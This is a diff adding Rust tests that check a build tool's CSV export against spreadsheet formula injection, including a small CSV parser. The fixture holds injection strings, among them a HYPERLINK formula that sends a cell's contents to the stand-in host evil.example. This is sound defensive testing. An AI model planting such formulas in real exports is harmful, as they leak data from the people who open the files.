@@ -294,3 +294,97 @@ fn a_protocol_relative_base_path_is_refused() {
         );
     }
 }
+
+/// An indicator whose every text cell would be a formula in a spreadsheet, with a negative
+/// actual (a number, which must stay one) and a figure beyond f64's 17 significant digits.
+const FORMULA_INDICATOR: &str = r#"no: 1
+name: '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+renamed:
+  - {from: R5, name: "-2+3"}
+unit: "+1"
+decimals: 1
+direction: higher_is_better
+unit_policies: [I-1-(1)-①, I-1-(1)-②]
+baseline:
+  - {value: 3665}
+years:
+  R3: {target: 1600, actual: -2000, note: "\r=1+1"}
+  R4: {target: 1700, actual: "12345678901234567.8", note: "\t=1+1"}
+  R5: {target: 1800, pending: "@SUM(A1:A9)"}
+"#;
+
+fn built_with_formulas() -> tempfile::TempDir {
+    let tmp = minimal_with(|root| {
+        fs::write(root.join("content/indicators/01.yaml"), FORMULA_INDICATOR).unwrap();
+    });
+    let r = run("build", tmp.path()).unwrap();
+    assert_eq!(r.code, Some(0), "{}", r.stderr);
+    tmp
+}
+
+/// Cells of a CSV file (RFC 4180: quoted fields, "" inside quotes), BOM removed.
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
+    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
+    let mut chars = text.chars().peekable();
+    let mut quoted = false;
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, '\r') if chars.peek() == Some(&'\n') => {}
+            (false, '\n') => {
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    rows
+}
+
+#[test]
+fn csv_text_cells_cannot_run_as_formulas_and_numbers_stay_numbers() {
+    let tmp = built_with_formulas();
+    let csv = fs::read_to_string(tmp.path().join("output/data/indicators.csv")).unwrap();
+    let rows = csv_rows(&csv);
+    let header = &rows[0];
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let kpi1: Vec<&Vec<String>> = rows[1..].iter().filter(|r| r[0] == "1").collect();
+    assert_eq!(kpi1.len(), 3);
+    let numeric = ["no", "fiscal_year", "target", "actual", "rate"];
+    for row in rows[1..].iter() {
+        for (name, cell) in header.iter().zip(row) {
+            if numeric.contains(&name.as_str()) {
+                assert!(
+                    cell.is_empty() || cell.parse::<f64>().is_ok(),
+                    "{name}: {cell:?} is not a plain number"
+                );
+            } else {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{name}: {cell:?} would run as a formula"
+                );
+            }
+        }
+    }
+    // Neutralised as OWASP recommends: a leading ', the text otherwise kept.
+    let (r3, r4, r5) = (kpi1[0], kpi1[1], kpi1[2]);
+    assert_eq!(
+        r3[column("indicator")],
+        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
+    );
+    assert_eq!(r3[column("unit")], "'+1");
+    assert_eq!(r3[column("note")], "'\r=1+1");
+    assert_eq!(r4[column("note")], "'\t=1+1");
+    assert_eq!(r5[column("indicator")], "'-2+3");
+    assert_eq!(r5[column("pending")], "'@SUM(A1:A9)");
+    assert_eq!(r3[column("actual")], "-2000");
+    assert_eq!(r3[column("rate")], "-125.0");
+}
